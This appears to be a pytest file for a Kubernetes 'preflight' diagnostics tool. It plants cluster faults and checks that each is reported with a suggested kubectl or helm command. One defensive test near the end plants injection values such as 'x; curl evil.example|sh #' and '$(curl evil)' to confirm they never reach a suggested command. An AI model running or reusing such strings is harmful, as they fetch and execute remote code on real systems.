"""Each planted fault is named, with a line to type, and no other.

A row of :data:`FAULTS`: the fault, how its sentence begins (… is anything), the line to type.
"""

from __future__ import annotations

import base64
import copy
import glob
import gzip
import json
from collections.abc import Callable
from fnmatch import fnmatchcase

import pytest
import trustme
from healthy import NOW, World, ago, certificate, checked, ended, kept
from preflight_cli.cluster import Installation, Problem
from preflight_cli.installation import problems
from preflight_proto import names
from preflight_testing.helm import PARTS, version

pytestmark = pytest.mark.component  # renders the charts

INJECTOR, GANG = "preflight-injector", "preflight-gang"
Fault = Callable[[World], object]


def found(world: World) -> list[Problem]:
    return problems(world.cluster())


def test_nothing_is_wrong_where_nothing_is() -> None:
    assert found(World()) == []


def _pod_waits(world: World, reason: str, message: str = "") -> None:
    world.one("Deployment", INJECTOR)["status"]["readyReplicas"] = 1
    state = {"waiting": {"reason": reason, "message": message}}
    container = {"name": "webhook", "image": "nowhere/webhook:1", "state": state}
    world.one("Pod", f"{INJECTOR}-0")["status"] = {"containerStatuses": [container]}


def _pod_ended(world: World) -> None:
    _pod_waits(world, "CrashLoopBackOff")
    [container] = world.one("Pod", f"{INJECTOR}-0")["status"]["containerStatuses"]
    container["lastState"] = {"terminated": {"exitCode": 2, "message": "checks: unknown key.\n"}}


def _unschedulable(world: World) -> None:
    world.one("Deployment", GANG)["status"]["readyReplicas"] = 0
    world.one("Pod", f"{GANG}-0")["status"]["conditions"] = [
        {"type": "PodScheduled", "status": "False", "message": "0/3 nodes are available"}
    ]


def _quota(world: World) -> None:
    failure = {"type": "ReplicaFailure", "status": "True", "message": "exceeded quota: pods"}
    world.one("Deployment", GANG)["status"] = {"conditions": [failure]}


def _ten_runs(world: World) -> None:
    for i in range(10):
        state = ended("inconclusive", "ENGINE_UNREACHABLE") if i < 3 else ended("passed", "PASSED")
        checked(world, f"pod-{i}", "dcgm-diag", state=state)


def _lease(part: str, component: str) -> str:
    """The line to type where nobody leads."""
    labels = f"app.kubernetes.io/name={part},app.kubernetes.io/component={component}"
    return f"kubectl -n preflight logs -l {labels} --tail=20"


def _kept(world: World) -> None:
    notes = world.one("CustomResourceDefinition", "preflightconfigs." + names.PREFIX[:-1])
    notes["metadata"]["annotations"]["meta.helm.sh/release-name"] = "earlier"


def _version(world: World, kind: str, name: str) -> None:
    world.one(kind, name)["metadata"]["labels"]["app.kubernetes.io/version"] = "0.0.9"


def _unready(world: World) -> None:
    for slice_ in world.read["EndpointSlice"]:
        if slice_["metadata"]["name"] == f"{INJECTOR}-x":
            slice_["endpoints"][0]["conditions"]["ready"] = False


def _sick(world: World) -> None:
    _sick_by(world, "DcgmDiagnosticMemory")


def _sick_by(world: World, kind: str) -> None:
    condition = {"type": kind, "status": "True", "lastTransitionTime": ago(hours=2)}
    world.one("Node", "node-b")["status"]["conditions"].append(condition)


def _edited(world: World) -> None:
    binding = world.one("ValidatingAdmissionPolicyBinding", f"{INJECTOR}-reserved")
    binding["spec"]["validationActions"] = ["Audit"]


def _opted(world: World, value: str) -> None:
    world.one("OptedIn", "ml")["metadata"]["labels"][names.NAMESPACE_LABEL] = value


def _alone(world: World, part: str) -> None:
    """The part was installed by its own chart, not by the umbrella."""
    kept(world, lambda text: text.replace(f"Source: preflight/charts/{part}/", f"Source: {part}/"))


def _newer_alone(world: World) -> None:
    world.version.update(minor="35")
    _alone(world, "preflight-gpu-scheduler")


def _no_connector_alone(world: World) -> None:
    world.gone("Supplier", "platform-connectors")
    _alone(world, INJECTOR)


def _no_gangs_alone(world: World) -> None:
    _no_gangs(world)
    _alone(world, INJECTOR)


def _rollout(world: World) -> None:
    _pod_waits(world, "ImagePullBackOff")
    status = {"replicas": 3, "updatedReplicas": 1, "readyReplicas": 2, "unavailableReplicas": 1}
    world.one("Deployment", INJECTOR)["status"] = status


def _rare_renewal_failed(world: World) -> None:
    [item, *_] = world.read["CronJob"]
    item["spec"]["schedule"] = "0 3 * * 0"
    item["status"] = {"lastSuccessfulTime": ago(days=9), "lastScheduleTime": ago(days=2)}


def _sick_by_ours(world: World) -> None:
    for part in (GANG, "preflight-gpu-scheduler"):
        world.config(part, lambda c: c.update(nodeConditions=["Ours*"]))
    world.config("preflight-appwrapper", lambda c: c["nodeHealth"].update(conditions=["Ours*"]))
    _sick_by(world, "OursGpu")


def _crd_refused(world: World) -> None:
    item = world.one("CustomResourceDefinition", "appwrappers.workload.codeflare.dev")
    conflict = {"type": "NamesAccepted", "status": "False", "message": '"aw" is already in use'}
    item["status"]["conditions"] = [conflict]


def _held(world: World) -> None:
    metadata = {"deletionTimestamp": ago(minutes=30), "finalizers": ["a/b"]}
    held = world.add("ComputeDomain", "fabric", "ml", metadata=metadata)
    world.read["OwnKind"].append(held)


def _left_label(world: World) -> None:
    world.uninstalled("preflight-appwrapper")
    _label(world)


def _label(world: World) -> None:
    labels = {"preflight.nvsentinel.nvidia.com/gpu-health": "EVICT"}
    world.one("Node", "node-b")["metadata"]["labels"] = labels


def _no_gangs(world: World) -> None:
    world.uninstalled(GANG)
    gang_wide = {"name": names.NCCL_ALLREDUCE, "image": "allreduce:1"}
    world.config(INJECTOR, lambda c: c["checks"].append(gang_wide))


def _no_labeler(world: World) -> None:
    about = {"part-of": "preflight", "name": "preflight-appwrapper", "component": "labeler"}
    labels = {f"app.kubernetes.io/{key}": value for key, value in about.items()}
    world.add("Lease", "preflight-appwrapper-labeler", "preflight", metadata={"labels": labels})


def _excluded(world: World) -> None:
    labels = {names.NAMESPACE_LABEL: names.NAMESPACE_ENABLED}
    world.add("OptedIn", "nvsentinel", metadata={"labels": labels})


def _refused_config(world: World) -> None:
    refused = {"type": "Accepted", "status": "False", "message": "two in one."}
    world.add("PreflightConfig", "mine", "ml", status={"conditions": [refused]})


def _twice(world: World) -> None:
    second = copy.deepcopy(world.one("Deployment", GANG))
    second["metadata"]["namespace"] = "elsewhere"
    world.read["Deployment"].append(second)


def _released(**labels: str) -> Fault:
    """The newest revision of the release, as Helm keeps it with these labels."""
    name = "sh.helm.release.v1.preflight.v3"
    return lambda world: world.one("Secret", name)["metadata"]["labels"].update(labels)


def _history(world: World, revisions: dict[int, str]) -> None:
    """What Helm keeps of the release: its revisions, and how each ended."""
    newest = world.one("Secret", "sh.helm.release.v1.preflight.v3")
    for revision, status in revisions.items():
        of_it = newest if revision == 3 else copy.deepcopy(newest)
        of_it["metadata"]["labels"] |= {"version": str(revision), "status": status}
        if revision != 3:
            of_it["metadata"]["name"] = f"sh.helm.release.v1.preflight.v{revision}"
            world.read["Secret"].append(of_it)


def release(change: Fault, status: str, do: str) -> Row:
    """A release whose last change has not ended well."""
    return change, f"release preflight/preflight is {status}", do


UPGRADE = "helm -n preflight upgrade preflight CHART --reset-then-reuse-values"
BACK = "helm -n preflight rollback preflight{}  # unless Helm is still at work"
CERTS = "kubectl -n preflight get cronjobs,jobs -l app.kubernetes.io/component=certs"
Row = tuple[Fault, str, str]


def gone(kind: str, name: str, place: str = "preflight/") -> Row:
    """An object of the release that is not there."""
    told = f"{kind} {place}{name} of release preflight/preflight is not there"
    return lambda w: w.gone(kind, name), told, UPGRADE


def altered(change: Fault, where: str, what: str = "") -> Row:
    """An object that is not as the release made it."""
    return change, f"{where} is not as release preflight/preflight made it: {what}", UPGRADE


def waits(reason: str, what: str, message: str = "") -> Row:
    """A pod of the injector that does not start."""
    do = f"kubectl -n preflight describe pod {INJECTOR}-0"
    told = f"Deployment preflight/{INJECTOR} has 1 of 2 pods ready: {what}"
    return lambda w: _pod_waits(w, reason, message), told, do


def configured(text: str) -> Row:
    """A ConfigMap whose text somebody has changed."""
    change = {"config.yaml": text}
    where = f"ConfigMap preflight/{INJECTOR}"
    return altered(lambda w: w.one("ConfigMap", INJECTOR)["data"].update(change), where)


def tls(data: Callable[[], dict[str, str]], what: str) -> Row:
    """A Secret with another certificate, or none."""
    name = f"{INJECTOR}-tls"
    told = f"Secret preflight/{name} {what}"
    return lambda w: w.one("Secret", name).update(data=data()), told, CERTS


def _forgotten(world: World, *lines: str) -> None:
    """Helm keeps nothing of the objects that have all these lines."""

    def left(text: str) -> str:
        every = text.split("---\n")
        return "---\n".join(item for item in every if not all(line in item for line in lines))

    kept(world, left)


def _ends_elsewhere(world: World) -> None:
    """No CronJob of ours keeps it."""
    world.read["CronJob"].clear()
    _forgotten(world, "kind: CronJob")
    world.one("Secret", f"{INJECTOR}-tls")["data"]["tls.crt"] = certificate(days=3.5)


def trusts(change: Callable[[dict[str, str]], object], what: str) -> Row:
    """Entries of admission whose authorities somebody has changed."""

    def plant(world: World) -> None:
        for webhook in world.one("MutatingWebhookConfiguration", INJECTOR)["webhooks"]:
            change(webhook["clientConfig"])

    return plant, f"MutatingWebhookConfiguration {INJECTOR} {what}", CERTS


def schedules(change: Fault, minor: str, value: str = "preflight-gpu-scheduler.") -> Row:
    """A kube-scheduler of another version than the cluster's."""
    where = "Deployment preflight/preflight-gpu-scheduler-scheduler"
    do = f"{UPGRADE} --set {value}kubeScheduler.image=…:v{minor}"
    return change, f"{where} runs kube-scheduler 1.36 in a cluster of {minor}", do


FAULTS: dict[str, Row] = {
    "an upgrade that has not ended": release(
        _released(status="pending-upgrade"), "pending-upgrade", BACK.format("")
    ),
    "an upgrade that has not ended, after one that has failed": release(
        lambda w: _history(w, {1: "deployed", 2: "failed", 3: "pending-upgrade"}),
        "pending-upgrade",
        BACK.format(" 1"),
    ),
    "an upgrade that has not ended, after an install that has failed": release(
        lambda w: _history(w, {2: "failed", 3: "pending-upgrade"}),  # it may work all the same
        "pending-upgrade",
        BACK.format(""),
    ),
    "an install that has not ended": release(
        _released(status="pending-install", version="1"),
        "pending-install",
        "helm -n preflight uninstall preflight  # unless Helm is still at work",
    ),
    "an install that has failed": release(
        _released(status="failed", version="1"), "failed", UPGRADE
    ),
    "a role that is gone": gone("ClusterRole", GANG, ""),
    "an account that is gone": gone("ServiceAccount", INJECTOR),
    "a network policy that is gone": gone("NetworkPolicy", INJECTOR),
    "admission that is gone": gone("MutatingWebhookConfiguration", INJECTOR, ""),
    "a policy that refuses nothing any more": altered(
        _edited,
        f"ValidatingAdmissionPolicyBinding {INJECTOR}-reserved",
        "spec.validationActions[0] is Audit",
    ),
    "a role with fewer rights": altered(
        lambda w: w.one("ClusterRole", GANG)["rules"].pop(), f"ClusterRole {GANG}", "rules has"
    ),
    "a selector that was changed": altered(
        lambda w: w.one("MutatingWebhookConfiguration", INJECTOR)["webhooks"][0].update(
            failurePolicy="Ignore"
        ),
        f"MutatingWebhookConfiguration {INJECTOR}",
        "webhooks[0].failurePolicy is Ignore",
    ),
    "a configuration that was edited": configured("checks: []"),
    "a configuration that is no YAML any more": configured("checks: ["),
    "replicas of two versions": (
        lambda w: _version(w, "Deployment", "preflight-mnnvl-webhook"),
        f"preflight-mnnvl has workloads of versions 0.0.9 and {version(PARTS / 'preflight-mnnvl')}",
        "helm list --all-namespaces  # then upgrade its release",
    ),
    "a kube-scheduler of another minor version": schedules(
        lambda w: w.version.update(minor="34+"), "1.34"
    ),
    "a kube-scheduler that is newer than the API server": schedules(
        lambda w: w.version.update(minor="35"), "1.35"
    ),
    "a kube-scheduler of a chart that was installed alone": schedules(_newer_alone, "1.35", ""),
    "no connector for an injector that was installed alone": (
        _no_connector_alone,
        "DaemonSet platform-connectors is not there: no result of it is reported",
        f"{UPGRADE} --set platformConnector.enabled=false  # or install NVSentinel",
    ),
    "a gang's check of an injector that was installed alone": (
        _no_gangs_alone,
        "preflight-injector injects nccl-allreduce, and preflight-gang, which forms the gangs, is not installed",
        "helm -n preflight install preflight-gang CHART",
    ),
    "new pods that do not start beside old ones that run": (
        _rollout,
        'Deployment preflight/preflight-injector has 2 of 2 pods ready while it is being updated: the image "nowhere/webhook:1" cannot be pulled',
        "kubectl -n preflight describe pod preflight-injector-0",
    ),
    "renewal that is rare, and has failed": (
        _rare_renewal_failed,
        "CronJob preflight/preflight-appwrapper-certs has not succeeded for 9 days",
        "kubectl -n preflight create job --from=cronjob/preflight-appwrapper-certs preflight-appwrapper-certs-now",
    ),
    "no authority of one entry alone": (
        lambda w: w.one("MutatingWebhookConfiguration", INJECTOR)["webhooks"][-1][
            "clientConfig"
        ].pop("caBundle"),
        "MutatingWebhookConfiguration preflight-injector has no caBundle",
        CERTS,
    ),
    "a node that is sick by a condition of one's own": (
        _sick_by_ours,
        "Node node-b is sick since",
        "kubectl describe node node-b",
    ),
    "a definition that the API server refuses": (
        _crd_refused,
        'CustomResourceDefinition appwrappers.workload.codeflare.dev is not NamesAccepted: "aw" is already in use',
        "kubectl describe crd appwrappers.workload.codeflare.dev",
    ),
    "a definition of a release that is gone": (
        _kept,
        "CustomResourceDefinition preflightconfigs.preflight.nvsentinel.nvidia.com was kept of release preflight/earlier, which is gone",
        "kubectl annotate crd preflightconfigs.preflight.nvsentinel.nvidia.com --overwrite meta.helm.sh/release-namespace=preflight meta.helm.sh/release-name=preflight && helm -n preflight upgrade preflight CHART --reset-then-reuse-values",
    ),
    "a definition of an earlier version": (
        lambda w: _version(w, "CustomResourceDefinition", "computedomains.resource.nvidia.com"),
        f"CustomResourceDefinition computedomains.resource.nvidia.com is of version 0.0.9, preflight-computedomain is of {version(PARTS / 'preflight-computedomain')}",
        UPGRADE,
    ),
    "an image that cannot be pulled": waits(
        "ImagePullBackOff",
        'the image "nowhere/webhook:1" cannot be pulled',
    ),
    "an image's name that is none": waits(
        "InvalidImageName", "…has a name that no registry can have"
    ),
    "a container that cannot be made": waits(
        "CreateContainerConfigError", 'webhook waits: secret "x" not found', 'secret "x" not found'
    ),
    "a program that ends at once": (
        _pod_ended,
        "Deployment preflight/preflight-injector…webhook ended with 2: checks: unknown key.",
        "kubectl -n preflight describe pod preflight-injector-0",
    ),
    "pods that no node takes": (
        _unschedulable,
        "Deployment preflight/preflight-gang has 0 of 2 pods ready: it cannot be scheduled (0/3 nodes are available)",
        "kubectl -n preflight describe pod preflight-gang-0",
    ),
    "pods that may not be created": (
        _quota,
        "Deployment preflight/preflight-gang has 0 of 2 pods ready: exceeded quota: pods",
        "kubectl -n preflight describe deployment preflight-gang",
    ),
    "agents on no node": (
        lambda w: w.read["DaemonSet"][0]["status"].update(numberReady=0, desiredNumberScheduled=0),
        "DaemonSet preflight/preflight-computedomain-kubelet-plugin selects none of 3 nodes",
        "kubectl -n preflight get daemonset preflight-computedomain-kubelet-plugin -o jsonpath='{.spec.template.spec.nodeSelector}'",
    ),
    "an agent that is not ready": (
        lambda w: w.read["DaemonSet"][0]["status"].update(numberReady=2),
        "DaemonSet preflight/preflight-computedomain-kubelet-plugin has 2 of 3 pods ready",
        "kubectl -n preflight describe daemonset preflight-computedomain-kubelet-plugin",
    ),
    "certificates that could not be made": (
        lambda w: w.read["Job"][0].update(
            status={"conditions": [{"type": "Failed", "status": "True", "message": "too often"}]}
        ),
        "Job preflight/preflight-appwrapper-certs-…failed: too often",
        "kubectl -n preflight logs job/preflight-appwrapper-certs-",
    ),
    "renewal that is suspended": (
        lambda w: w.read["CronJob"][0]["spec"].update(suspend=True),
        "CronJob preflight/preflight-appwrapper-certs is suspended: certificates are not renewed",
        'kubectl -n preflight patch cronjob preflight-appwrapper-certs -p \'{"spec":{"suspend":false}}\'',
    ),
    "renewal that does not succeed": (
        lambda w: w.read["CronJob"][0]["status"].update(lastSuccessfulTime=ago(days=4)),
        "CronJob preflight/preflight-appwrapper-certs has not succeeded for 4 days",
        "kubectl -n preflight create job --from=cronjob/preflight-appwrapper-certs preflight-appwrapper-certs-now",
    ),
    "nobody who leads": (
        lambda w: w.one("Lease", GANG).update(spec={}),
        "Lease preflight/preflight-gang is held by nobody: no replica leads",
        _lease(GANG, "controller"),
    ),
    "no labeler that leads": (
        _no_labeler,
        "Lease preflight/preflight-appwrapper-labeler is held by nobody: no replica leads",
        _lease("preflight-appwrapper", "labeler"),
    ),
    "a leader that is gone": (
        lambda w: w.one("Lease", GANG)["spec"].update(renewTime=ago(seconds=200)),
        "Lease preflight/preflight-gang was last renewed 200 s ago: no replica leads",
        _lease(GANG, "controller"),
    ),
    "no authority that is trusted": trusts(
        lambda config: config.pop("caBundle"), "has no caBundle"
    ),
    "an authority that is none": trusts(
        lambda config: config.update(caBundle="bm9uZQ=="),
        "has a caBundle that is no certificate",
    ),
    "a certificate that has ended": tls(
        lambda: {"tls.crt": certificate(days=-2)}, "has a certificate that ended 2 days ago"
    ),
    "a certificate that ends soon": tls(
        lambda: {"tls.crt": certificate(days=3.5)}, "has a certificate that ends in 3 days"
    ),
    "a certificate that nobody trusts": tls(
        lambda: {"tls.crt": certificate(ca=trustme.CA())},
        f"has a certificate that no authority of MutatingWebhookConfiguration {INJECTOR} signed",
    ),
    "a Secret without a certificate": tls(dict, "has no certificate in tls.crt"),
    "a webhook that no pod answers": (
        _unready,
        "MutatingWebhookConfiguration preflight-injector leads to Service preflight/preflight-injector, behind which no pod is ready: what it would look at is refused",
        "kubectl -n preflight get pods -l app.kubernetes.io/name=preflight-injector,app.kubernetes.io/component=webhook",
    ),
    "a label with a capital": (
        lambda w: _opted(w, "Enabled"),
        'Namespace ml…preflight="Enabled", which is',
        "kubectl label --overwrite namespace ml nvsentinel.nvidia.com/preflight=enabled",
    ),
    "a namespace that is opted in and excluded": (
        _excluded,
        "Namespace nvsentinel is opted in, and preflight-injector excludes it: its pods are not checked",
        "kubectl label namespace nvsentinel nvsentinel.nvidia.com/preflight-",
    ),
    "a certificate of somebody else's that ends soon": (
        _ends_elsewhere,
        "Secret preflight/preflight-injector-tls has a certificate that ends in 3 days",
        "kubectl -n preflight describe secret preflight-injector-tls",
    ),
    "a PreflightConfig that is refused": (
        _refused_config,
        "PreflightConfig ml/mine is not in force: two in one.",
        "kubectl -n ml edit preflightconfigs mine",
    ),
    "a check that one of two does not know": (
        lambda w: w.config(GANG, lambda c: c.update(checks=["nccl-loopback"])),
        "preflight-gang does not know the checks dcgm-diag",
        "helm -n preflight get values --all preflight  # set global.preflight.checks for both",
    ),
    "a resource that one of two does not know": (
        lambda w: w.config(GANG, lambda c: c.update(gpuResourceNames=["gpu.scheduling/gpu"])),
        "preflight-gang does not count pods of the resources nvidia.com/gpu",
        "helm -n preflight get values --all preflight  # set its gpuResourceNames, too",
    ),
    "a check's image that cannot be pulled": (
        lambda w: checked(w, "train", "dcgm-diag", state={"waiting": {"reason": "ErrImagePull"}}),
        '1 pods, ml/train among them: the image "preflight-dcgm-diag:0.1.0" cannot be pulled',
        "kubectl -n ml describe pod train",
    ),
    "a check that does not end": (
        lambda w: checked(
            w, "train", "nccl-allreduce", state={"running": {"startedAt": ago(minutes=40)}}
        ),
        "Pod ml/train has preflight-nccl-allreduce at work for 40 minutes",
        "kubectl -n ml logs train -c preflight-nccl-allreduce --tail=20",
    ),
    "checks that cannot judge": (
        _ten_runs,
        "check dcgm-diag could not judge 3 of 10 pods: ENGINE_UNREACHABLE",
        "kubectl get events --all-namespaces | grep -e ENGINE_UNREACHABLE",
    ),
    "a sick node": (_sick, "Node node-b is sick since", "kubectl describe node node-b"),
    "no connector": (
        lambda w: w.gone("Supplier", "platform-connectors"),
        "DaemonSet platform-connectors is not there: no result of it is reported",
        f"{UPGRADE} --set preflight-injector.platformConnector.enabled=false  # or install NVSentinel",
    ),
    "a node without its connector": (
        lambda w: w.gone("SupplierPod", "platform-connectors-node-b"),
        "DaemonSet nvidia/platform-connectors is not ready on 1 of 3 nodes with GPUs (node-b): there no result of it is reported",
        "kubectl -n nvidia get pods -o wide --field-selector spec.nodeName=node-b",
    ),
    "a node whose hostengine is not ready": (
        lambda w: w.one("SupplierPod", "nvidia-dcgm-node-c")["status"].update(conditions=[]),
        "DaemonSet nvidia/nvidia-dcgm is not ready on 1 of 3 nodes with GPUs (node-c): there dcgm-diag ends as ENGINE_UNREACHABLE",
        "kubectl -n nvidia get pods -o wide --field-selector spec.nodeName=node-c",
    ),
    "a label of a labeler that is gone": (
        _left_label,
        "Node node-b has the label preflight.nvsentinel.nvidia.com/gpu-health of preflight-appwrapper, which is not installed",
        "kubectl label node node-b preflight.nvsentinel.nvidia.com/gpu-health-",
    ),
    "a label of a labeler that was switched off": (
        _label,
        "Node node-b has the label preflight.nvsentinel.nvidia.com/gpu-health of preflight-appwrapper's labeler, which is not installed",
        "kubectl label node node-b preflight.nvsentinel.nvidia.com/gpu-health-",
    ),
    "nobody who has opted in": (
        lambda w: w.read["OptedIn"].clear(),
        "preflight-injector checks no pod: no namespace is opted in",
        "kubectl label namespace NAMESPACE nvsentinel.nvidia.com/preflight=enabled",
    ),
    "a gang's check where nobody forms gangs": (
        _no_gangs,
        "preflight-injector injects nccl-allreduce, and preflight-gang, which forms the gangs, is not installed",
        f"{UPGRADE} --set preflight-gang.enabled=true",
    ),
    "a part that takes other nodes for sick": (
        lambda w: w.config("preflight-gpu-scheduler", lambda c: c.update(nodeConditions=["Xid"])),
        "preflight-gpu-scheduler has other node conditions that make a node sick than preflight-gang",
        "helm -n preflight get values --all preflight  # set global.preflight.sickNodeConditions for all",
    ),
    "a part that is installed twice": (
        _twice,
        "preflight-gang is installed in the namespaces elsewhere and preflight",
        "helm list --all-namespaces  # then uninstall one of them",
    ),
    "a Secret that is gone": (
        lambda w: w.gone("Secret", "preflight-mnnvl-webhook-tls"),
        "Secret preflight/preflight-mnnvl-webhook-tls is not there: no new pod of Deployment preflight/preflight-mnnvl-webhook starts",
        CERTS,
    ),
    "authorities that have ended": trusts(
        lambda config: config.update(caBundle=certificate(days=-1)),
        "trusts authorities that have all ended",
    ),
    "rights that are bound to nobody": (
        lambda w: w.one("ClusterRoleBinding", GANG)["subjects"][0].update(name="another"),
        "ClusterRoleBinding preflight-gang is not as release preflight/preflight made it: subjects[0].name is another",
        UPGRADE,
    ),
    "an object that cannot go": (
        _held,
        "ComputeDomain ml/fabric is being deleted for 30 minutes, and held by a/b",
        "kubectl -n ml describe computedomain fabric",
    ),
}


@pytest.mark.parametrize("fault", FAULTS)
def test_each_planted_fault_is_named_and_no_other(fault: str) -> None:
    world = World()
    plant, told, do = FAULTS[fault]
    plant(world)
    [problem] = found(world)
    assert fnmatchcase(f"{problem.where} {problem.what}", glob.escape(told).replace("…", "*") + "*")
    assert problem.do.startswith(do)


def test_a_job_that_its_time_to_live_has_taken_away_is_not_missed() -> None:
    world = World()
    assert world.read["Job"]
    world.read["Job"].clear()
    assert found(world) == []


def _short_certificate(world: World) -> None:
    """Of 30 days, which is renewed ten days before its end."""
    text = certificate(days=9, age=21)
    world.one("Secret", "preflight-injector-tls")["data"]["tls.crt"] = text


def _conditions_without_labeler(world: World) -> None:
    """AppWrapper's own are for its labeler alone, which is off."""
    for part in (GANG, "preflight-gpu-scheduler"):
        world.config(part, lambda c: c.update(nodeConditions=["Xid*"]))


def _network_cards(world: World) -> None:
    """A node whose NVIDIA devices are no GPUs has neither connector nor hostengine."""
    for resource in ("nvidia.com/hostdev_a", "nvidia.com/mlnxnics"):
        world.add("Node", f"cpu-{resource[-1]}", status={"capacity": {resource: "2"}})


def _no_replica(world: World) -> None:
    """As with replicas=0, which leaves the policies of the gang controller alone."""
    controller = world.one("Deployment", GANG)
    controller["spec"]["replicas"] = controller["status"]["readyReplicas"] = 0
    world.one("Lease", GANG)["spec"] = {}


def _older_scheduler(world: World) -> None:
    """As Kubernetes' policy of version skew has it."""
    world.version.update(minor="37")


def _definition_brought_by_hand(world: World) -> None:
    """As with crd.install=false: who applies it leaves Helm's labels as they were."""
    name = "computedomains.resource.nvidia.com"
    _version(world, "CustomResourceDefinition", name)
    _forgotten(world, "kind: CustomResourceDefinition", f"name: {name}")


def _weekly_renewal(world: World) -> None:
    [item, *_] = world.read["CronJob"]
    item["spec"]["schedule"] = "0 3 * * 0"
    item["status"] = {"lastSuccessfulTime": ago(days=3), "lastScheduleTime": ago(days=3, seconds=9)}


def _new_weekly_renewal(world: World) -> None:
    [item, *_] = world.read["CronJob"]
    item["spec"]["schedule"] = "@weekly"
    item["metadata"]["creationTimestamp"] = ago(days=3)
    item["status"] = {}


def _check_that_is_off(world: World) -> None:
    world.uninstalled(GANG)
    off = {"name": names.NCCL_ALLREDUCE, "image": "allreduce:1", "enabled": False}
    world.config(INJECTOR, lambda c: c["checks"].append(off))


def _intermediate_authority(world: World) -> None:
    root = trustme.CA()
    for webhook in world.one("MutatingWebhookConfiguration", INJECTOR)["webhooks"]:
        bundle = base64.b64encode(root.cert_pem.bytes()).decode()
        webhook["clientConfig"]["caBundle"] = bundle
    chain = root.create_child_ca().issue_cert("webhook").cert_chain_pems
    text = base64.b64encode(b"".join(pem.bytes() for pem in chain)).decode()
    world.one("Secret", "preflight-injector-tls")["data"]["tls.crt"] = text


def _long_check(world: World) -> None:
    pod = checked(world, "train", "dcgm-diag", state={"running": {"startedAt": ago(minutes=40)}})
    env = [{"name": "CHECK_TIMEOUT", "value": "1h"}]
    pod["spec"] = {"initContainers": [{"name": "preflight-dcgm-diag", "env": env}]}


def _long_diagnostic(world: World) -> None:
    """Level 3 may run for 45 minutes, and wait for as long while the engine is busy."""
    pod = checked(world, "train", "dcgm-diag", state={"running": {"startedAt": ago(minutes=80)}})
    env = [{"name": "DCGM_DIAG_LEVEL", "value": "3"}]
    pod["spec"] = {"initContainers": [{"name": "preflight-dcgm-diag", "env": env}]}


@pytest.mark.parametrize(
    "usual",
    [
        _no_replica,
        _short_certificate,
        _conditions_without_labeler,
        _network_cards,
        _older_scheduler,
        _definition_brought_by_hand,
        _weekly_renewal,
        _new_weekly_renewal,
        _check_that_is_off,
        _intermediate_authority,
        _long_check,
        _long_diagnostic,
    ],
)
def test_what_is_unusual_and_works_is_no_problem(usual: Fault) -> None:
    world = World()
    usual(world)
    assert found(world) == []


def test_a_release_that_helm_applies_on_the_servers_side_is_put_back_by_force() -> None:
    world = World()
    _edited(world)
    secret = world.one("Secret", "sh.helm.release.v1.preflight.v3")
    packed = base64.b64decode(base64.b64decode(secret["data"]["release"]))
    kept = {**json.loads(gzip.decompress(packed)), "apply_method": "ssa"}
    text = base64.b64encode(json.dumps(kept).encode())
    secret["data"]["release"] = base64.b64encode(text).decode()
    [problem] = found(world)
    assert problem.do == (
        "helm -n preflight upgrade preflight CHART --reset-then-reuse-values --force-conflicts"
    )


def test_a_release_whose_history_was_kept_is_gone() -> None:
    world = World()
    labels = {"name": "earlier", "status": "uninstalled", "version": "4"}
    metadata = {"labels": labels}
    world.add("Secret", "old", "preflight", type="helm.sh/release.v1", metadata=metadata, data={})
    assert found(world) == []
    _kept(world)
    [problem] = found(world)
    assert problem.what == "was kept of release preflight/earlier, which is gone"


@pytest.mark.parametrize("note", ["release-name", "release-namespace"])
def test_no_text_of_an_annotation_or_a_result_is_a_command_to_type(note: str) -> None:
    world = World()
    policy = world.read["ValidatingAdmissionPolicy"][0]
    policy["metadata"]["annotations"][f"meta.helm.sh/{note}"] = "x; curl evil.example|sh #"
    bound = world.read["ValidatingAdmissionPolicyBinding"]
    bound[:] = [x for x in bound if x["spec"]["policyName"] != policy["metadata"]["name"]]
    for i in range(10):
        checked(world, f"pod-{i}", "mine", state=ended("inconclusive", "$(curl evil)", "mine"))
    typed = [problem.do for problem in found(world)]
    assert [do for do in typed if "evil.example" in do] == []
    assert "helm -n NAMESPACE upgrade RELEASE CHART --reset-then-reuse-values" in typed
    assert "kubectl get events --all-namespaces | grep -e '$(curl evil)'" in typed


def test_a_service_that_is_gone_is_told_with_the_webhook_that_leads_there() -> None:
    world = World()
    world.gone("Service", INJECTOR)
    told = [f"{problem.where} {problem.what}" for problem in found(world)]
    assert told == [
        "Service preflight/preflight-injector of release preflight/preflight is not there",
        "MutatingWebhookConfiguration preflight-injector leads to Service preflight/preflight-injector, which is not there",
    ]


def test_a_policy_without_its_binding_and_a_binding_without_its_policy_are_told() -> None:
    world = World()
    world.gone("ValidatingAdmissionPolicy", f"{INJECTOR}-reserved")
    world.gone("ValidatingAdmissionPolicyBinding", f"{INJECTOR}-exec")
    told = " ".join(f"{problem.where} {problem.what}" for problem in found(world))
    assert f"{INJECTOR}-exec is bound nowhere, so it refuses nothing" in told
    assert f"binds the policy {INJECTOR}-reserved, which is not there" in told


def test_an_empty_cluster_has_no_part_and_nothing_else_is_said() -> None:
    empty = Installation({"Deployment": [], "DaemonSet": [], "Node": []}, NOW, {"minor": "36"})
    [problem] = problems(empty)
    assert (problem.where, problem.what) == ("the cluster", "has no part of Preflight")


def test_namespaces_that_the_chart_lists_are_opted_in_whatever_their_labels_say() -> None:
    world = World()
    labels = {names.NAMESPACE_LABEL: "on"}
    other = {"kind": "OptedIn", "metadata": {"name": "team-a", "labels": labels}}
    world.read["OptedIn"] = [other]
    assert [problem.where for problem in found(world)] == ["Namespace team-a"]
    term = {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["team-a"]}
    webhooks = world.one("MutatingWebhookConfiguration", INJECTOR)["webhooks"]
    webhooks[0]["namespaceSelector"]["matchExpressions"].append(term)
    for opted_in in ([other], []):
        world.read["OptedIn"] = opted_in
        assert [problem.where for problem in found(world)] == [
            "MutatingWebhookConfiguration preflight-injector"  # it is not as the release made it
        ]


def test_what_could_not_be_read_is_no_problem() -> None:
    assert problems(Installation({}, NOW, {})) == []
